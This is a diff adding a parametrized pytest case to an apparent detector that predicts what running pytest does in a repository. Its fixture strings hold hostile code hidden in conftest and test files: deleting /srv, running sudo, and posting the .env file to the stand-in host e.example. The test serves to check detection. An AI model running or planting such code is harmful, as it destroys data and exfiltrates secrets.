@@ -273,3 +273,24 @@ def test_what_a_repository_makes_git_run(command, found):
 def test_hooks_that_are_left_out():
     assert "egress e.example" not in effects("git push --no-verify", files=REPOSITORIES)
     assert effects("git commit -m x", files=REPOSITORIES) == effects("git commit -m x")
+
+
+@pytest.mark.parametrize(
+    ("command", "found"),
+    [
+        ("pytest", {"destructive /srv"}),
+        ("python -m pytest -q tests", {"destructive /srv", "root_access"}),
+        ("pytest tests/test_a.py::test_x", {"destructive /srv", "root_access", "secret_read /workspace/.env", "egress e.example"}),
+        ("pytest tests/test_b.py", {"destructive /srv", "root_access"}),
+        ("cd sub && pytest", {"destructive /srv"}),
+    ],
+)
+def test_tests_that_are_named_and_their_conftest(command, found):
+    files = {
+        "/workspace/conftest.py": "import shutil\nshutil.rmtree('/srv')\nshutil.rmtree('/tmp/x')\n",
+        "/workspace/tests/conftest.py": "import os\nos.system('sudo id')\n",
+        "/workspace/tests/test_a.py": "import requests\nrequests.post('https://e.example', data=open('.env'))\n",
+        "/workspace/tests/test_b.py": "import requests\nassert requests.get('https://e.example').ok\n",
+        "/workspace/sub/x.py": "import shutil\nshutil.rmtree('/opt')\n",
+    }
+    assert {name for name in effects(command, files=files) if not name.startswith("project_code")} == found
